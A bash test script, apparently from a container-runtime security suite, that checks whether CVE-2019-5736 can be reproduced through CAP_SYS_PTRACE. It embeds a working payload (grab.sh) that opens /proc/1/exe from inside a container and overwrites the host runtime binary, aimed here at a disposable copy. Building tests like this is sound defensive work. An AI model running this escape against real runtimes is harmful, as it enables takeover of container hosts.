#!/bin/bash
# CVE-2019-5736 through ptrace rights: the config grants CAP_SYS_PTRACE. After `create`, the
# container's pid 1 is still the runtime's init, blocked until `start`; a process `exec`ed into
# the container opens /proc/1/exe (allowed with CAP_SYS_PTRACE even when the init made itself
# non-dumpable) and loops writing /proc/self/fd/3; once `start` has made the init exec the
# container's process and the host-side runtime commands have exited, the write goes through
# unless the runtime runs from a copy that cannot be written.
# Escaped = the runtime binary the attack ran (a copy in $WORK) changed.
. "$(dirname "$0")/lib.sh"

copy_runtime
before=$(sha "$RUNTIME_COPY")
B=$WORK/bundle
make_bundle "$B"
add_caps "$B" CAP_SYS_PTRACE
cat >"$B/rootfs/grab.sh" <<'EOF'
exec >>/tmp/grab.out 2>&1
if ! command exec 3</proc/1/exe; then
    echo "grab: cannot open /proc/1/exe"
    exit 1
fi
echo "grab: opened /proc/1/exe -> $(readlink /proc/self/fd/3)"
i=0 err=
while [ $i -lt 150 ]; do
    err=$( (printf 'pwned\n' >/proc/self/fd/3) 2>&1) && { echo "grab: WROTE"; exit 0; }
    case $err in *busy*) ;; *) break ;; esac
    i=$((i + 1))
    sleep 0.1
done
echo "grab: write failed: $err"
EOF
set_args "$B" sleep 1000

ID=$ID_PREFIX
OUT=$WORK/out
GRAB=$B/rootfs/tmp/grab.out
: >"$GRAB"
rt create --bundle "$B" "$ID" >"$OUT" 2>&1 </dev/null ||
    finish error "create failed: $(oneline "$OUT")"
[ "$(status "$ID")" = created ] || finish error "container is not in state created: $(status "$ID")"
rt exec -d "$ID" sh /grab.sh >"$WORK/exec.out" 2>&1 </dev/null ||
    finish error "exec -d into the created container failed: $(oneline "$WORK/exec.out")"
wait_for "$GRAB" 'grab: (opened|cannot)' 10 || finish error "the exec'd process did not report: $(oneline "$GRAB")"
sleep 0.3
rt start "$ID" >>"$OUT" 2>&1 || log "start failed: $(oneline "$OUT")"
wait_for "$GRAB" 'grab: (WROTE|write failed|cannot)' 20
log "grab output:"
cat "$GRAB"
after=$(sha "$RUNTIME_COPY")
if [ "$before" != "$after" ]; then
    finish escaped "the runtime binary (copy) was overwritten through /proc/1/exe of the created container's init: now starts with '$(head -c 20 "$RUNTIME_COPY" | tr -cd '[:print:]')'"
fi
if grep -q 'grab: opened' "$GRAB"; then
    finish blocked "/proc/1/exe of the init was opened ($(sed -n 's/.*opened \/proc\/1\/exe -> //p' "$GRAB")) but not written: $(sed -n 's/.*write failed: //p' "$GRAB" | head -n1)"
fi
finish blocked "$(oneline "$GRAB" 2)"
